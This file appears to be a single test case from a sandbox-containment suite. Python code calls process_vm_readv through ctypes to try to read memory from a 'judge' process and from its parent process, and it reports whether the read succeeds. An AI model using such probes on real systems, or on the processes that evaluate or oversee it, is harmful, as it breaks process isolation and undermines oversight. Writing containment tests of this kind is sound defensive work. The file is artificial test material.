# /// attack
# class = "A88"
# title = "reads the memory of other processes by process_vm_readv"
# hope = "no file is opened"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
tried()
here = ctypes.create_string_buffer(16)
mine = Part(ctypes.addressof(here), 16)
for pid in {TARGETS["judge"], os.getppid()} - {0, os.getpid()}:
    try:
        address = int(open(f"/proc/{pid}/maps").read().split("-")[0], 16)
    except OSError:
        address = ctypes.cast(ctypes.pythonapi.Py_GetVersion, ctypes.c_void_p).value
    theirs = Part(address, 16)
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        got("read the memory of another process")
